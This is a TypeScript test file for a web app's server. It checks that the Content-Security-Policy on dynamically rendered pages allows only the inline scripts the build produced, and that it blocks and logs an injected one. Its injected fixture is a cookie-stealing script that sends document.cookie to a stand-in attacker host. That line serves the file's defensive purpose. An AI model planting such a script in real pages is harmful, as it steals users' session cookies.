import { createHash } from "node:crypto";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { ServerBuild } from "react-router";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { createApp } from "../../server/app";
import { parseEnv } from "../../server/env";
import { logger } from "../../server/logger";
import type { Services } from "../../server/services";
import { loadStaticFiles } from "../../server/static-files";
import { builtServerAvailable, builtServerDir } from "../support/spawn-server";

/**
 * Pages rendered on request (404s, filtered views) get a CSP that allows only the
 * inline scripts the build produced: the real build renders them here, once as
 * it is and once with a script injected into its HTML (as a rendering bug or an
 * injection flaw would), and the injected one must not be allowed.
 */

const INJECTED = `fetch("https://evil.example/?c="+document.cookie)`;
const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script, "utf8").digest("base64")}'`;
const inlineScripts = (html: string) =>
  [...html.matchAll(/<script(?![^>]*\bsrc=)([^>]*)>([\s\S]*?)<\/script>/g)]
    .filter((m) => !/application\/(ld\+)?json/.test(m[1]!))
    .map((m) => m[2]!);
const allowed = (res: Response) => new Set(res.headers.get("content-security-policy")!.match(/'sha256-[^']+'/g));

let build: ServerBuild;
beforeAll(async () => {
  if (builtServerAvailable)
    build = (await import(pathToFileURL(join(builtServerDir, "server/index.js")).href)) as ServerBuild;
});
afterEach(() => {
  vi.restoreAllMocks();
});

/** The app over the real build; `inject` puts a script of its own into every page React Router renders. */
function appWith(inject: boolean) {
  const env = parseEnv({ LOG_LEVEL: "silent", RATE_LIMIT_RENDERS_PER_MINUTE: "0" });
  const entry = build.entry.module;
  const handleDocumentRequest: typeof entry.default = async (...args) => {
    const response = await entry.default(...args);
    if (!inject) return response;
    const html = (await response.text()).replace("</body>", `<script>${INJECTED}</script></body>`);
    return new Response(html, { status: response.status, headers: response.headers });
  };
  const tampered = { ...build, entry: { module: { ...entry, default: handleDocumentRequest } } } as ServerBuild;
  const services = { env, tokens: { issue: () => "token", verify: () => "valid" } } as unknown as Services;
  return createApp({ env, build: tampered, files: loadStaticFiles(join(builtServerDir, "client")), services });
}

describe.skipIf(!builtServerAvailable)("the CSP of a page rendered on request", () => {
  it("allows every inline script the app itself renders (404, filtered view, contact outcome)", async () => {
    const app = appWith(false);
    for (const path of ["/no-such-page", "/en/no-such-page", "/portfolio?category=mobile", "/en/contact?sent=1"]) {
      const res = await app.fetch(new Request(`http://localhost${path}`));
      const html = await res.text();
      const scripts = inlineScripts(html);
      expect(scripts.length, path).toBeGreaterThan(0);
      expect([...allowed(res)].sort(), path).toEqual([...new Set(scripts.map(hashOf))].sort());
    }
  });

  it("does not allow a script the build never produced, and logs it", async () => {
    const warn = vi.spyOn(logger, "warn");
    const app = appWith(true);
    for (const path of ["/no-such-page", "/en/portfolio?category=ai"]) {
      const res = await app.fetch(new Request(`http://localhost${path}`));
      const html = await res.text();
      expect(inlineScripts(html), path).toContain(INJECTED);
      const csp = allowed(res);
      expect(csp.has(hashOf(INJECTED)), path).toBe(false);
      // The app's own inline script still runs.
      for (const script of inlineScripts(html).filter((s) => s !== INJECTED))
        expect(csp.has(hashOf(script)), path).toBe(true);
      expect(res.headers.get("content-security-policy")).not.toContain("unsafe-inline");
    }
    expect(warn).toHaveBeenCalledWith("inline_script_not_allowed", { path: "/no-such-page", scripts: 1 });
    expect(warn).toHaveBeenCalledWith("inline_script_not_allowed", { path: "/en/portfolio", scripts: 1 });
  });
});
